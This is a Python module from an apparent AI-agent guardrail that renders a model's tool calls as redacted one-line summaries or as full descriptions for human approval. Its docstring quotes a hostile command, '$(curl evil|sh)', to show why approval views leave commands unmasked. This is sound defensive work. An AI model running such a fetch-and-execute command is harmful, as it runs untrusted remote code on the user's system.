"""One readable line per tool call, for confirmations and traces.

``bash: cargo test``, ``write src/main.rs (1.2 KiB)``, ``edit src/a.py
(replace 1 occurrence)``, ``download https://host/path -> artifacts/x``, and
``tool: key=value ...`` for any other tool. The arguments come from a model,
so every piece goes through :mod:`codeward._redact`: credentials are masked,
arguments named like secrets show ``REDACTED``, newlines show as ``⏎``,
controls and bidirectional characters are escaped, and the line is clipped.
The guardrail exports it as ``summarize_call``.

:func:`describe_call` is the other form, for a person who must approve a
call: the whole operation, nothing cut and nothing inside a command masked
(a mask can hide what runs: ``--token=$(curl evil|sh)``), every resolved
target named, invisible characters shown as escapes and runs of spaces
counted (:func:`codeward._redact.visible`). Only values the arguments name as
secrets and a URL's credentials are masked, which cannot change what runs
into something else. The confirmations use it as ``summarize_operation``.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping, Sequence
from typing import Any

from ._redact import REDACTED, clip, is_secret_name, redact_url, safe_text, visible

__all__ = ["DEFAULT_GRANT_PORTS", "describe_call", "grant_target", "summarize_call"]

DEFAULT_GRANT_PORTS = (443, 80)  # what a network grant without a port covers: HTTPS and HTTP
_Show = Callable[[object], str]

_VALUE_LIMIT = 4096  # a value is cut here before the line is: a huge value costs no more
_MAX_DEPTH = 8  # nested deeper than this (or a cycle) shows as "..."


def _clean(value: object) -> str:
    """A model-supplied value: bounded, redacted, on one line, controls escaped."""
    text = value if isinstance(value, str) else json.dumps(_mask(value, 0), default=repr)
    return safe_text(text, _VALUE_LIMIT, one_line=True, show_length=False)


def _mask(value: object, depth: int) -> object:
    """A nested value with the entries named like secrets replaced, cut below ``_MAX_DEPTH``."""
    if isinstance(value, Mapping):
        if depth >= _MAX_DEPTH:
            return "..."
        return {
            str(k): REDACTED if is_secret_name(str(k)) else _mask(v, depth + 1)
            for k, v in value.items()
        }
    if isinstance(value, (list, tuple)):
        return [_mask(v, depth + 1) for v in value] if depth < _MAX_DEPTH else "..."
    return value


def _size(n: int) -> str:
    if n < 1024:
        return f"{n} B"
    value = float(n)
    for unit in ("KiB", "MiB", "GiB"):
        value /= 1024
        if value < 1024 or unit == "GiB":
            break
    return f"{value:.1f} {unit}"


def _text_size(value: object) -> str:
    return _size(len(value.encode("utf-8", "surrogatepass"))) if isinstance(value, str) else "?"


def _whole(value: object) -> str:
    """A model-supplied value shown whole: nothing cut, nothing masked, nothing invisible."""
    text = value if isinstance(value, str) else json.dumps(_mask(value, 0), default=repr)
    return visible(text)


class _Form:
    """How a describer shows values: the short one-line summary, or the whole operation."""

    def __init__(self, show: _Show, whole: bool, targets: Sequence[tuple[str, str]] = ()) -> None:
        self.show = show
        self.whole = whole
        self.targets = list(targets)


_SHORT = _Form(_clean, False)


def summarize_call(tool: str, args: Mapping[str, Any] | None, limit: int = 160) -> str:
    """The one-line operation summary of a call, at most ``limit`` characters; never raises."""
    return clip(_describe(tool, args, _SHORT), limit, show_length=False)


def describe_call(
    tool: str, args: Mapping[str, Any] | None, targets: Sequence[tuple[str, str]] = ()
) -> str:
    """The whole operation of a call, for a person who approves exactly what runs; never raises.

    ``targets`` are ``(action, path)`` of the resolved call (a path that
    leads elsewhere through a symlink as ``path -> target``); when given,
    the paths shown are these. A command keeps its line breaks; the result
    is never cut, so the caller wraps it.
    """
    return _describe(tool, args, _Form(_whole, True, targets))


def _describe(tool: str, args: Mapping[str, Any] | None, form: _Form) -> str:
    args = args if isinstance(args, Mapping) else {}
    name = form.show(str(tool))
    describe = _DESCRIBERS.get(str(tool))
    try:
        text = describe(args, form) if describe is not None else _generic(name, args, form)
    except Exception:  # a malformed argument must not hide the call: show it generically
        try:
            text = _generic(name, args, form)
        except Exception:  # arguments that cannot even be listed: the tool's name alone
            text = name
    return text


def _path(args: Mapping[str, Any], form: _Form, *keys: str) -> str:
    if form.targets:
        return ", ".join(form.show(path) for _action, path in form.targets)
    for key in keys:
        value = args.get(key)
        if isinstance(value, str) and value:
            return form.show(value)
    return "?"


def grant_target(host: object, port: object, show: _Show | None = None) -> str:
    """Where a network grant reaches, as a person should read it before approving it:
    ``host:port``, or both web ports when no port is given (an IPv6 host in brackets), the
    host in its canonical form (``xn--xample-2of.com``, never its look-alike Unicode form)."""
    from ._hostname import canonical_or_none

    show = _clean if show is None else show
    # the form that is compared and connected to (an A-label), not a look-alike as written
    canonical = canonical_or_none(host)
    name = show(host if canonical is None else canonical)
    if ":" in name and not name.startswith("["):
        name = f"[{name}]"
    if port is None:
        https, http = DEFAULT_GRANT_PORTS
        return f"{name}:{https} and {name}:{http} (no port given: HTTPS and HTTP)"
    return f"{name}:{show(port)}"


def _bash(args: Mapping[str, Any], form: _Form) -> str:
    command = form.show(args.get("command", ""))
    mode = args.get("sandbox_permissions", "use_default")
    if mode == "require_escalated":
        return f"bash (outside the sandbox): {command}"
    if mode == "request_network_grant":
        grant = args.get("network_grant")
        where = ""
        if isinstance(grant, Mapping):
            where = f" {grant_target(grant.get('host'), grant.get('port'), form.show)}"
        return f"bash (network{where}): {command}"
    return f"bash: {command}"


def _read(args: Mapping[str, Any], form: _Form) -> str:
    files = args.get("files")
    if isinstance(files, (list, tuple)) and files:
        count = f"read {len(files)} file{'s' if len(files) != 1 else ''}: "
        if form.targets:
            return count + _path(args, form)
        if form.whole:
            return count + ", ".join(form.show(_entry_path(f)) for f in files)
        shown = [_clean(f.get("path", "?")) if isinstance(f, Mapping) else "?" for f in files[:3]]
        more = f" +{len(files) - 3} more" if len(files) > 3 else ""
        return count + ", ".join(shown) + more
    text = f"read {_path(args, form, 'file_path', 'path')}"
    offset, lim = args.get("offset"), args.get("limit")
    if isinstance(offset, int) or isinstance(lim, int):
        start = offset if isinstance(offset, int) else 1
        end = f"{start + lim - 1}" if isinstance(lim, int) else "end"
        text += f" (lines {start}-{end})"
    return text


def _entry_path(entry: object) -> object:
    if isinstance(entry, Mapping):
        return entry.get("path", "?")
    return entry


def _write(args: Mapping[str, Any], form: _Form) -> str:
    return f"write {_path(args, form, 'file_path', 'path')} ({_text_size(args.get('content'))})"


def _edit(args: Mapping[str, Any], form: _Form) -> str:
    how = "replace all occurrences" if args.get("replace_all") is True else "replace 1 occurrence"
    return f"edit {_path(args, form, 'file_path', 'path')} ({how})"


_PATCH_FILE = re.compile(r"^\+\+\+ (?:b/)?(\S+)", re.M)
_PATCH_VERBS = {"write": "create", "edit": "change", "delete": "delete"}


def _patch(args: Mapping[str, Any], form: _Form) -> str:
    patch = args.get("patch")
    if not isinstance(patch, str):
        return "patch ?"
    lines = patch.splitlines()
    added = sum(1 for ln in lines if ln.startswith("+") and not ln.startswith("+++"))
    removed = sum(1 for ln in lines if ln.startswith("-") and not ln.startswith("---"))
    if form.targets:  # the files as the patch tool decodes them, each with what happens to it
        shown = ", ".join(
            f"{_PATCH_VERBS.get(action, action)} {form.show(path)}" for action, path in form.targets
        )
        return f"patch: {shown} (+{added} -{removed} lines)"
    files = [f for f in dict.fromkeys(_PATCH_FILE.findall(patch)) if f != "/dev/null"]
    shown = ", ".join(form.show(f) for f in files[:3]) or "?"
    more = f" +{len(files) - 3} more" if len(files) > 3 else ""
    return f"patch {shown}{more} (+{added} -{removed} lines)"


def _search(args: Mapping[str, Any], form: _Form) -> str:
    mode = form.show(args.get("mode", "grep"))
    where = ""
    if form.targets:
        where = f" in {_path(args, form)}"
    elif isinstance(args.get("path"), str):
        where = f" in {form.show(args['path'])}"
    return f"search {mode} {form.show(json.dumps(str(args.get('query', ''))))}{where}"


def _ls(args: Mapping[str, Any], form: _Form) -> str:
    return f"ls {_path(args, form, 'path') if args.get('path') or form.targets else '.'}"


def _git(args: Mapping[str, Any], form: _Form) -> str:
    target = args.get("target")
    extra = f" {form.show(target)}" if isinstance(target, str) and target else ""
    return f"git {form.show(args.get('command', '?'))}{extra}"


def _download(args: Mapping[str, Any], form: _Form) -> str:
    from ._hostname import canonical_url

    url = args.get("url", "?")
    url = canonical_url(url) if isinstance(url, str) else url  # an A-label, not a look-alike
    shown = form.show(redact_url(url, 1 << 20) if form.whole and isinstance(url, str) else url)
    dest = _path(args, form, "file_path", "path", "dest", "destination", "output")
    return f"download {shown} -> {dest}"


def _generic(name: str, args: Mapping[str, Any], form: _Form) -> str:
    shown = []
    items = list(args.items())
    listed = items if form.whole else items[:6]
    for key, value in listed:
        k = form.show(str(key))
        if is_secret_name(k):
            v = REDACTED
        else:
            v = form.show(value) if form.whole else clip(_clean(value), 60, show_length=False)
        shown.append(f"{k}={v}")
    more = f" +{len(items) - 6} more" if len(items) > len(listed) else ""
    return f"{name}: {' '.join(shown)}{more}" if shown else name


_DESCRIBERS = {
    "bash": _bash,
    "read": _read,
    "write": _write,
    "edit": _edit,
    "patch": _patch,
    "search": _search,
    "ls": _ls,
    "git": _git,
    "download": _download,
}
